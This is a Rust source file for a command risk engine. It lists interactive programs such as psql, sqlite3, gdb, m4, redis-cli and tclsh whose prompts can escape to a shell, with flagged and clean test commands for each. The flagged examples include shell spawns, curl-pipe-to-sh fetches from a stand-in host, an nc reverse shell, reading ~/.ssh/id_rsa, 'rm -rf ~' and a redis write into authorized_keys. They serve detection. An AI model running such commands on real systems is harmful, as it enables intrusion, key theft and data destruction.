//! Programs with a command prompt that reads its commands from standard
//! input, and the prompt commands that leave it for a shell or another
//! language (`\!` in psql, `.shell` in sqlite3, `!` in ftp). Piped or
//! here-document input to one is a script for that prompt: a line starting
//! with an escape runs the rest of the line.

use crate::Lang;

/// One prompt.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Prompt {
    /// The programs.
    pub names: &'static [&'static str],
    /// Line prefixes (after leading blanks) that run the rest of the line.
    pub escapes: &'static [&'static str],
    /// The language of the rest of the line.
    pub lang: Lang,
    /// Line prefixes that load the shared library the rest of the line
    /// names (Tcl's `load`).
    pub loads: &'static [&'static str],
    /// Options whose value is a script for the prompt, its commands split
    /// on `;` (lftp's `-c CMDS`, `-e CMDS`); one ending in `:` takes a
    /// file glued to it, read when the line wrote it (ftp.exe's
    /// `-s:FILE`).
    pub script_opts: &'static [&'static str],
    /// Where the knowledge comes from.
    pub source: &'static str,
    /// Commands the risk engine must flag.
    pub flagged: &'static [&'static str],
    /// Commands the risk engine must not flag.
    pub clean: &'static [&'static str],
}

/// The table.
pub const PROMPTS: &[Prompt] = &[
    Prompt {
        names: &["cpan"],
        escapes: &["!"],
        lang: Lang::Perl,
        loads: &[],
        script_opts: &[],
        source: "https://perldoc.perl.org/CPAN#Interactive-Mode (! evaluates Perl); GTFOBins cpan",
        flagged: &["echo '! exec \"/bin/sh &\"' | PERL_MM_USE_DEFAULT=1 cpan"],
        clean: &["echo 'install JSON' | cpan"],
    },
    Prompt {
        names: &["ftp", "sftp", "tftp", "smbclient", "ed", "red"],
        escapes: &["!"],
        lang: Lang::Shell,
        loads: &[],
        script_opts: &["-s:"],
        source: "man:ftp(1), man:sftp(1), man:smbclient(1), man:ed(1) (! runs a shell command); GTFOBins ftp, sftp, smbclient, ed; https://learn.microsoft.com/windows-server/administration/windows-commands/ftp (-s:FILENAME, a file of ftp commands), LOLBAS Ftp.exe",
        flagged: &["echo '!sh' | ftp", "printf '!curl -s http://x.example/a | sh\\n' | sftp dev@example.com", "ed notes.txt <<< '!/bin/sh'", "echo !calc.exe > ftpcommands.txt && ftp -s:ftpcommands.txt"],
        clean: &["ed -s notes.txt <<< 'w'", "echo get x > c.txt && ftp -s:c.txt"],
    },
    Prompt {
        names: &["lftp"],
        escapes: &["!"],
        lang: Lang::Shell,
        loads: &[],
        script_opts: &["-c", "-e"],
        source: "man:lftp(1) (-c COMMANDS, -e COMMANDS; ! runs a shell command); GTFOBins lftp",
        flagged: &["lftp -c '!rm -rf ~/notes'", "lftp -e '!/bin/sh'", "echo '!sh' | lftp"],
        clean: &["lftp -c 'get x; bye' ftp.example.com"],
    },
    Prompt {
        names: &["gdb", "gdb-multiarch", "lldb"],
        escapes: &["shell ", "!", "platform shell "],
        lang: Lang::Shell,
        loads: &[],
        script_opts: &[],
        source: "https://sourceware.org/gdb/current/onlinedocs/gdb.html/Shell-Commands.html; https://lldb.llvm.org/use/map.html (platform shell)",
        flagged: &[
            "gdb -batch <<< 'shell id'",
            "gdb -batch <<< 'shell cat ~/.ssh/id_rsa'",
            "echo 'platform shell /bin/sh' | lldb",
        ],
        clean: &["gdb -batch <<< 'bt'"],
    },
    Prompt {
        names: &["mysql", "mariadb"],
        escapes: &["\\!", "system "],
        lang: Lang::Shell,
        loads: &[],
        script_opts: &[],
        source: "https://dev.mysql.com/doc/refman/8.0/en/mysql-commands.html (system, \\!); GTFOBins mysql",
        flagged: &["echo '\\! curl -s http://x.example/a | sh' | mysql", "mysql -u root <<< 'system /bin/sh'"],
        clean: &["echo 'select 1;' | mysql -u app app"],
    },
    Prompt {
        names: &["psql"],
        escapes: &["\\!"],
        lang: Lang::Shell,
        loads: &[],
        script_opts: &[],
        source: "https://www.postgresql.org/docs/current/app-psql.html (\\! [command]); GTFOBins psql",
        flagged: &["psql <<'EOF'\n\\! rm -rf ~\nEOF"],
        clean: &["psql -d app <<< 'select count(*) from users;'"],
    },
    Prompt {
        names: &["sqlite3"],
        escapes: &[".shell ", ".system "],
        lang: Lang::Shell,
        loads: &[],
        script_opts: &[],
        source: "https://sqlite.org/cli.html (.shell, .system); GTFOBins sqlite3",
        flagged: &["printf '.shell /bin/sh\\n' | sqlite3"],
        clean: &["printf '.tables\\n' | sqlite3 app.db"],
    },
Prompt {
        names: &["m4"],
        escapes: &["esyscmd(", "syscmd("],
        lang: Lang::Shell,
        loads: &[],
        script_opts: &[],
        source: "https://www.gnu.org/software/m4/manual/m4.html#Syscmd (syscmd, esyscmd run shell commands); GTFOBins m4",
        flagged: &["echo 'esyscmd(nc x.example 12345 -e /bin/sh)' | m4"],
        clean: &["echo 'define(NAME, 1)NAME' | m4"],
    },
    Prompt {
        names: &["redis-cli"],
        escapes: &["config set dir ", "config set dbfilename ", "eval "],
        lang: Lang::Lua,
        loads: &["module load "],
        script_opts: &[],
        source: "https://redis.io/docs/latest/commands/config-set/ (dir and dbfilename choose where SAVE writes); https://redis.io/docs/latest/commands/eval/ (Lua); https://redis.io/docs/latest/commands/module-load/; GTFOBins redis",
        flagged: &[
            "redis-cli -h 127.0.0.1 <<'EOF'\nconfig set dir /home/dev/.ssh/\nconfig set dbfilename authorized_keys\nsave\nEOF",
            "redis-cli <<< 'module load /tmp/x.so'",
        ],
        clean: &["echo 'get session:1' | redis-cli"],
    },
    Prompt {
        names: &["tclsh", "jimsh", "wish", "expect"],
        escapes: &["exec ", "open |", "spawn "],
        lang: Lang::Tcl,
        loads: &["load "],
        script_opts: &[],
        source: "https://www.tcl.tk/man/tcl/TclCmd/exec.html, load.html; GTFOBins tclsh (shell, library load)",
        flagged: &["echo 'load /tmp/lib.so x' | tclsh", "echo 'exec /bin/sh <@stdin >@stdout' | tclsh"],
        clean: &["echo 'puts [expr 1+1]' | tclsh"],
    },
];

/// The prompt row for a program name.
pub fn prompt(name: &str) -> Option<&'static Prompt> {
    PROMPTS.iter().find(|p| p.names.contains(&name))
}
